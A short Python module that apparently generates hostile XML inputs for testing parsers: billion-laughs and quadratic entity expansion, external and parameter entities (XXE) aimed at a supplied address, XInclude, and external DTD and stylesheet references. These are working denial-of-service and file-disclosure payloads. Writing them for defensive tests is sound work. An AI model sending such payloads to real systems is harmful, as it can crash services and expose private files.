"""XML that grows or reaches out of its file, as attackers write it."""

from __future__ import annotations

from itertools import pairwise


def laughs(root: str) -> str:
    """A billion laughs: entities of ten entities each."""
    defined = "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in pairwise("abcdefghi"))
    return f"<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>{defined}]>{root.format('&i;')}"


def quadratic(root: str) -> str:
    """One long entity, often."""
    return f"<!DOCTYPE x [<!ENTITY a '{'a' * 100_000}'>]>{root.format('&a;' * 20_000)}"


def outside(root: str, address: str) -> str:
    """An entity that is another file."""
    return f"<!DOCTYPE x [<!ENTITY a SYSTEM '{address}'>]>{root.format('&a;')}"


def outside_definitions(root: str, address: str) -> str:
    """Definitions of entities that are another file."""
    return f"<!DOCTYPE x [<!ENTITY % a SYSTEM '{address}'> %a;]>{root.format('&secret;')}"


def included(root: str, address: str) -> str:
    """Another file by XInclude."""
    space = "http://www.w3.org/2001/XInclude"
    return root.format(f"<i:include xmlns:i='{space}' href='{address}' parse='text'/>")


def styled(root: str, address: str) -> str:
    """Another file as the file's DTD and style."""
    style = f"<?xml-stylesheet href='{address}'?>"
    return f"{style}<!DOCTYPE x SYSTEM '{address}'>{root.format('&secret;')}"
